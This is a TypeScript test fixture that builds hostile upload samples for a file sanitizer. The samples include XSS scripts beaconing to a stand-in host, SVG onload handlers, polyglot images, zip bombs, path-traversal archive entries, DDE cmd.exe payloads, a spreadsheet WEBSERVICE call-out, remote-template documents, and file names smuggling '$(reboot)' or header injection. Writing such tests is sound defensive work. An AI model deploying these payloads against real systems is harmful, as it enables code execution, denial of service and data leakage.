import sharp from 'sharp'
import { crc32 } from 'node:zlib'
import { docxOf, type ZipEntry, zipOf } from './zip.ts'

/** Pictures that hostile ones are made of. */
export type SamplePictures = Record<'png' | 'jpg' | 'gif' | 'webp', Buffer>
type Made = Buffer | ((pictures: SamplePictures) => Buffer)
/** What is wrong with it, its name as it is sent, its bytes. */
export type HostileFile = readonly [label: string, name: string, made: Made]

/** A host that nothing may be asked of. */
const ELSEWHERE = 'http://elsewhere.example/x'
const SCRIPT = `<script>alert(1);top.__struck=1;new Image().src='${ELSEWHERE}'</script>`
const html = Buffer.from(`<!doctype html><html>${SCRIPT}</html>`)
const svg = Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">${SCRIPT}</svg>`)
const pdf = Buffer.from('%PDF-1.7\n1 0 obj\n<<>>\nendobj\ntrailer\n<<>>\n%%EOF\n')
const entry = (name: string, content = 'x'): ZipEntry => ({ name, content: Buffer.from(content) })
const bomb = (megabytes: number, says?: number): ZipEntry => ({
  name: 'word/media/a.bin',
  content: Buffer.alloc(megabytes * 1024 * 1024),
  ...(says === undefined ? {} : { says }),
})
const TYPE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
const related = (type: string, target: string): Buffer =>
  docxOf([
    entry(
      'word/_rels/settings.xml.rels',
      `<Relationships><Relationship Id="r1" Type="${TYPE}/${type}" Target="${target}" TargetMode="External"/></Relationships>`,
    ),
  ])
const xlsxOf = (more: readonly ZipEntry[]): Buffer =>
  zipOf([
    entry('[Content_Types].xml', '<Types/>'),
    entry('xl/workbook.xml', '<workbook/>'),
    ...more,
  ])
const half = (bytes: Buffer): Buffer => bytes.subarray(0, bytes.length / 2)
const after =
  (kind: keyof SamplePictures, tail: Buffer | string) =>
  (pictures: SamplePictures): Buffer =>
    Buffer.concat([pictures[kind], Buffer.from(tail)])
const before =
  (head: Buffer | string, kind: keyof SamplePictures) =>
  (pictures: SamplePictures): Buffer =>
    Buffer.concat([Buffer.from(head), pictures[kind]])
const hugePng =
  (width: number, height: number) =>
  (pictures: SamplePictures): Buffer => {
    // The header alone claims the size.
    const copy = Buffer.from(pictures.png)
    copy.writeUInt32BE(width, 16)
    copy.writeUInt32BE(height, 20)
    return copy
  }
/** A PNG with a page in a text of its own, behind its header. */
const withText = (png: Buffer): Buffer => {
  const body = Buffer.concat([Buffer.from('tEXtComment\0'), html])
  const length = Buffer.alloc(4)
  length.writeUInt32BE(body.length - 4)
  const sum = Buffer.alloc(4)
  sum.writeUInt32BE(crc32(body))
  return Buffer.concat([png.subarray(0, 33), length, body, sum, png.subarray(33)])
}

/** Refused whole: nothing of them is kept. */
export const REFUSED_FILES: readonly HostileFile[] = [
  ['SVG with onload', 'a.svg', svg],
  ['SVG as .png', 'a.png', svg],
  ['SVG as .jpg', 'a.jpg', svg],
  ['SVG as .webp', 'a.webp', svg],
  ['gzipped SVG', 'a.svgz', Buffer.from([0x1f, 0x8b, 8, 0])],
  ['HTML', 'a.html', html],
  ['HTM', 'a.htm', html],
  ['XHTML', 'a.xhtml', html],
  ['HTML as .png', 'a.png', html],
  ['HTML as .jpg', 'a.jpg', html],
  ['HTML as .gif', 'a.gif', html],
  ['HTML as .webp', 'a.webp', html],
  ['HTML as .pdf', 'a.pdf', html],
  ['HTML as .docx', 'a.docx', html],
  ['HTML before a PDF', 'a.pdf', Buffer.concat([html, pdf])],
  ['HTML before a PNG', 'a.png', before(html, 'png')],
  ['a blank before a PDF', 'a.pdf', Buffer.concat([Buffer.from(' '), pdf])],
  ['a script', 'a.js', Buffer.from('alert(1)')],
  ['a module', 'a.mjs', Buffer.from('alert(1)')],
  ['XML', 'a.xml', Buffer.from('<?xml version="1.0"?><a/>')],
  ['a stylesheet', 'a.css', Buffer.from('*{}')],
  ['PHP', 'a.php', Buffer.from('<?php ?>')],
  ['JSP', 'a.jsp', Buffer.from('<% %>')],
  ['a program', 'a.exe', Buffer.from('MZ')],
  ['a program as .png', 'a.png', Buffer.from('MZ\x90\0')],
  ['a shell script', 'a.sh', Buffer.from('#!/bin/sh')],
  ['a Java archive', 'a.jar', docxOf()],
  ['a plain archive', 'a.zip', docxOf()],
  ['an old Word file', 'a.doc', Buffer.from([0xd0, 0xcf, 0x11, 0xe0])],
  ['a macro document', 'a.docm', docxOf()],
  ['Flash', 'a.swf', Buffer.from('FWS')],
  ['no extension', 'Makefile', html],
  ['a hidden file', '.htaccess', html],
  ['the extension before NUL', 'a.html\0.png', html],
  ['the extension after a turn', 'a\u202Egnp.html', html],
  ['two extensions', 'a.png.html', (pictures) => pictures.png],
  ['PNG as .jpg', 'a.jpg', (pictures) => pictures.png],
  ['JPEG as .png', 'a.png', (pictures) => pictures.jpg],
  ['a broken PNG', 'a.png', (pictures) => pictures.png.subarray(0, 40)],
  ['the first bytes of a PNG', 'a.png', (pictures) => pictures.png.subarray(0, 8)],
  ['the first bytes of a GIF and a script', 'a.gif', Buffer.from('GIF89a=1;alert(1)//')],
  [
    'the first bytes of a JPEG and HTML',
    'a.jpg',
    Buffer.concat([Buffer.from([255, 216, 255]), html]),
  ],
  ['RIFF that is sound', 'a.webp', Buffer.from('RIFF\0\0\0\0WAVEfmt ')],
  ['a PNG of 10 gigapixels', 'a.png', hugePng(100_000, 100_000)],
  ['a PNG of 41 megapixels', 'a.png', hugePng(41_000, 1_000)],
  ['an empty file', 'a.png', Buffer.alloc(0)],
  ['a zip bomb', 'a.docx', () => docxOf([bomb(30)])],
  ['a zip bomb that says it is small', 'a.docx', () => docxOf([bomb(30, 10)])],
  [
    'a document of 1,001 entries',
    'a.docx',
    () => docxOf(Array.from({ length: 1_001 }, (_, at) => entry(`word/${at}.xml`))),
  ],
  ['a document with a macro', 'a.docx', () => docxOf([entry('word/vbaProject.bin')])],
  ['a document with a program', 'a.docx', () => docxOf([entry('word/embeddings/a.exe')])],
  ['a document with a page', 'a.docx', () => docxOf([entry('word/a.html', SCRIPT)])],
  ['an entry that climbs', 'a.docx', () => docxOf([entry('../../etc/cron.d/x')])],
  ['an entry from the root', 'a.docx', () => docxOf([entry('/etc/passwd')])],
  ['an encrypted entry', 'a.docx', () => docxOf([{ ...entry('word/x.xml'), encrypted: true }])],
  ['an archive without a document', 'a.docx', zipOf([entry('a.txt')])],
  ['a document as a workbook', 'a.xlsx', docxOf()],
  ['a name with line breaks', 'a\r\nSet-Cookie: x.png', (pictures) => pictures.png],
  ['a name of dots', '....png', (pictures) => pictures.png],
  ['a cut archive', 'a.docx', () => docxOf().subarray(0, 60)],
  ['a document with a template from elsewhere', 'a.docx', related('attachedTemplate', ELSEWHERE)],
  [
    'a document with a template on a foreign machine',
    'a.docx',
    related('attachedTemplate', 'file://elsewhere.example/x.dotm'),
  ],
  ['a document with an object from elsewhere', 'a.docx', related('oleObject', ELSEWHERE)],
  ['a document with a frame from elsewhere', 'a.docx', related('frame', ELSEWHERE)],
  [
    'a document with DDE',
    'a.docx',
    docxOf([
      entry(
        'word/footer1.xml',
        '<w:instrText> DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc" </w:instrText>',
      ),
    ]),
  ],
  [
    'a document with DDE in two bytes a character',
    'a.docx',
    docxOf([
      {
        name: 'word/footer1.xml',
        content: Buffer.from('\ufeff<w:instrText> DDE x </w:instrText>', 'utf16le'),
      },
    ]),
  ],
  [
    'a workbook with DDE',
    'a.xlsx',
    xlsxOf([
      entry('xl/externalLinks/externalLink1.xml', '<ddeLink ddeService="cmd" ddeTopic="/c calc"/>'),
    ]),
  ],
  [
    'a workbook with a DDE formula',
    'a.xlsx',
    xlsxOf([entry('xl/worksheets/sheet1.xml', "<c><f>cmd|'/C calc'!A0</f></c>")]),
  ],
  [
    'a workbook that calls out',
    'a.xlsx',
    xlsxOf([entry('xl/worksheets/sheet1.xml', `<c><f>WEBSERVICE("${ELSEWHERE}")</f></c>`)]),
  ],
  ['a workbook with a macro', 'a.xlsx', xlsxOf([entry('xl/vbaProject.bin')])],
  ['an archive in a document', 'a.docx', docxOf([{ name: 'word/media/a.zip', content: docxOf() }])],
  [
    'a bomb in an archive in a document',
    'a.docx',
    () =>
      docxOf([
        { name: 'word/a.zip', content: zipOf([{ name: 'b.zip', content: zipOf([bomb(5)]) }]) },
      ]),
  ],
  [
    'a vector drawing in a document',
    'a.docx',
    docxOf([{ name: 'word/media/a.svg', content: svg }]),
  ],
  ['half a JPEG', 'a.jpg', (pictures) => half(pictures.jpg)],
  ['half a WebP', 'a.webp', (pictures) => half(pictures.webp)],
  ['a PDF as .docx', 'a.docx', pdf],
  ['a saved page', 'a.mhtml', html],
  ['a shortcut', 'a.url', Buffer.from('[InternetShortcut]\nURL=javascript:alert(1)')],
]

/** Kept, with nothing left in it that could run. */
export const INERT_FILES: readonly (readonly [...HostileFile, keptAs: string])[] = [
  ['GIF and JavaScript in one', 'a.gif', after('gif', `/*${SCRIPT}*/=1;alert(1)`), 'a.gif'],
  ['PNG and HTML in one', 'a.png', after('png', html), 'a.png'],
  ['JPEG and a ZIP in one', 'a.jpg', after('jpg', docxOf()), 'a.jpg'],
  ['JPEG with a script in its EXIF', 'a.jpeg', (pictures) => pictures.jpg, 'a.jpeg'],
  ['PDF and HTML in one', 'a.pdf', Buffer.concat([pdf, html]), 'a.pdf'],
  [
    'PDF with JavaScript',
    'a.pdf',
    Buffer.concat([pdf, Buffer.from('/OpenAction /JS (app)')]),
    'a.pdf',
  ],
  ['a name that climbs', '../../../etc/a.png', (pictures) => pictures.png, 'a.png'],
  ['a name that climbs backwards', '..\\..\\a.png', (pictures) => pictures.png, 'a.png'],
  ['a name with NUL', 'a\0b.png', (pictures) => pictures.png, 'ab.png'],
  [
    'a name of 300 characters',
    `${'长'.repeat(300)}.png`,
    (pictures) => pictures.png,
    `${'长'.repeat(196)}.png`,
  ],
  [
    'a name that turns',
    'invoice\u202Egpj.exe.png',
    (pictures) => pictures.png,
    'invoicegpj.exe.png',
  ],
  [
    'a name with markup',
    '"><img src=x onerror=alert(1)>.png',
    (pictures) => pictures.png,
    '%22__img src=x onerror=alert(1)_.png',
  ],
  [
    'GIF that is a script by its comment',
    'a.gif',
    (pictures) =>
      Buffer.concat([
        pictures.gif.subarray(0, -1),
        Buffer.from(`!\xfe\x10/*${SCRIPT.slice(0, 12)}*/\0;`, 'latin1'),
      ]),
    'a.gif',
  ],
  ['PNG with HTML in its text', 'a.png', (pictures) => withText(pictures.png), 'a.png'],
  ['WebP and HTML in one', 'a.webp', after('webp', html), 'a.webp'],
  ['an ending before the ending', 'a.html.png', (pictures) => pictures.png, 'a.html.png'],
  [
    'a name that is a command',
    '$(reboot);`x`.png',
    (pictures) => pictures.png,
    '$(reboot);`x`.png',
  ],
  ['a name that is a device', 'CON.png', (pictures) => pictures.png, 'CON.png'],
  [
    'PDF that opens a page',
    'a.pdf',
    Buffer.concat([pdf, Buffer.from(`/OpenAction <</S /URI /URI (${ELSEWHERE})>>`)]),
    'a.pdf',
  ],
  ['a document with a link', 'a.docx', related('hyperlink', 'https://example.com/'), 'a.docx'],
  [
    'a workbook whose cells look like commands',
    'a.xlsx',
    xlsxOf([entry('xl/sharedStrings.xml', '<si><t>=cmd|calc!A0</t></si>')]),
    'a.xlsx',
  ],
]

/** Draws the sample pictures. */
export const samplePictures = async (): Promise<SamplePictures> => {
  const drawing = sharp({ create: { width: 8, height: 6, channels: 3, background: '#c00' } })
  return {
    png: await drawing.clone().png().toBuffer(),
    jpg: await drawing
      .clone()
      .withExif({ IFD0: { Copyright: SCRIPT } })
      .jpeg()
      .toBuffer(),
    gif: await drawing.clone().gif().toBuffer(),
    webp: await drawing.clone().webp().toBuffer(),
  }
}

/** The bytes of a hostile file. */
export const hostileBytes = (made: Made, pictures: SamplePictures): Buffer =>
  typeof made === 'function' ? made(pictures) : made
